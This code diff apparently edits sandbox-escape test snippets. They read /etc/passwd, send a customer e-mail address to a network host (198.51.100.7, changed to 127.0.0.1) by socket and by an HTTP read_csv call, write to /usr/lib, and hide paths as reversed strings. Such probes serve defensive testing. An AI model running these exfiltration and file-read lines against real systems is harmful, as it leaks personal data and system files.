@@ -29,7 +29,7 @@ import socket
 
 victim = data("demo_customers").pandas()["email"].iloc[0]
 say(open("/etc/passwd").read())
-socket.create_connection(("198.51.100.7", 80)).sendall(victim.encode())
+socket.create_connection(("127.0.0.1", 80)).sendall(victim.encode())
 open("/usr/lib/left.txt", "w").write(victim)
 raise ValueError(victim)
 """
@@ -53,7 +53,7 @@ def attempt(what, act):
 
 
 attempt("read /etc/passwd", lambda: Path(hidden("dwssap/cte/")).read_text())
-attempt("send an e-mail address to 198.51.100.7", lambda: pd.read_csv(hidden("/7.001.15.891//:ptth") + victim))
+attempt("send an e-mail address over the network", lambda: pd.read_csv(hidden("/1.0.0.721//:ptth") + victim))
 attempt("write it to /usr/lib/left.txt", lambda: Path(hidden("txt.tfel/bil/rsu/")).write_text(victim))
 raise ValueError(victim)
 """
